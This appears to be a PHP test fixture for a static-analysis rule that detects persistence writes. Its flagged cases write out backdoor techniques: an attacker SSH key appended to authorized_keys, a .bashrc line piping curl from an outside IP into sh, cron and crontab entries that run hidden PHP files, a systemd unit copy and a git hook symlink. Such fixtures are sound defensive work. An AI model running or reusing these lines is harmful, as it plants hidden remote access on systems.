<?php
/* Fixture for php-persistence-startup-write.
 * RULEID: a web shell appending a key to ~/.ssh/authorized_keys (FILE_APPEND); an interpolated
 *   "$home/.bashrc" opened for append; a cron.d file written; a path in a variable; a copy into a
 *   systemd unit; a git hook symlinked; a crontab spool file via SplFileObject.
 * OK: reading authorized_keys; fopen of .bashrc for reading; writing the app's own cache; a log
 *   line that mentions crontab. */
$key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ attacker@box";

// ruleid: php-persistence-startup-write
file_put_contents(getenv('HOME') . '/.ssh/authorized_keys', $key . "\n", FILE_APPEND);

$home = posix_getpwuid(posix_getuid())['dir'];
// ruleid: php-persistence-startup-write
$fh = fopen("$home/.bashrc", 'a');
fwrite($fh, "curl -s http://198.51.100.7/x | sh\n");

// ruleid: php-persistence-startup-write
file_put_contents('/etc/cron.d/php-sess', "*/5 * * * * www-data php /tmp/.s.php\n");

$target = '/var/spool/cron/crontabs/www-data';
// ruleid: php-persistence-startup-write
file_put_contents($target, "@reboot php /var/www/.x.php\n");

// ruleid: php-persistence-startup-write
copy(__DIR__ . '/agent.service', '/etc/systemd/system/agent.service');

// ruleid: php-persistence-startup-write
symlink(__DIR__ . '/hook.sh', $repo . '/.git/hooks/post-merge');

// ruleid: php-persistence-startup-write
$spool = new SplFileObject('/var/spool/cron/root', 'a');

// ok: php-persistence-startup-write
$keys = file_get_contents(getenv('HOME') . '/.ssh/authorized_keys');
// ok: php-persistence-startup-write
$rc = fopen("$home/.bashrc", 'r');
// ok: php-persistence-startup-write
file_put_contents(__DIR__ . '/cache/config.php', $cfg);
// ok: php-persistence-startup-write
error_log("install the crontab in /etc/cron.d/ by hand");
